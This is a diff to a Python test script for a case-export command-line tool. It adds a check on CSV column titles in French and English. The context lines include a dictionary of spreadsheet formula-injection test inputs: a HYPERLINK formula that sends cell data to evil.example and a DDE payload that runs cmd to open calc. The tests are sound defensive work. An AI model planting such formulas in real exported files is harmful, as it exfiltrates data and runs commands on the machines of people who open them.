@@ -159,6 +159,18 @@ def check_struck(case, folder):
     expect(first.read_bytes() == again.read_bytes(), "the same journal gave other bytes")
 
 
+def check_columns(case):
+    """The spreadsheet's twelve columns come first in every csv, of a case as of a run (docs/cli.md, Rows)."""
+    promised = {"fr": ["Date", "Heure", "Fuseau", "Source", "Acteur", "Action", "Commentaires", "Gravité"],
+                "en": ["Date", "Time", "Zone", "Source", "Actor", "Action", "Comments", "Severity"]}
+    for language, titles in promised.items():
+        titles = [*titles, "Code", "Message-ID", "SHA-256", "Id"]
+        for form in (("case", "export", case, "--lang", language, "--format", "csv"),
+                     ("scan", "--lang", language, "--format", "csv", CORPUS / "kit-de-survie" / "thread")):
+            first = next(csv.reader(io.StringIO(run(*form).decode("utf-8-sig"))))
+            expect(first[:12] == titles, f"csv columns of {form[0]} in {language}: {first}")
+
+
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -315,6 +327,7 @@ def main():
         folder = pathlib.Path(name)
         case = article_case(folder)
         check_article_workbook(case, folder)
+        check_columns(case)
         check_report(case, folder)
         check_struck(case, folder)
         hostile = hostile_case(folder)
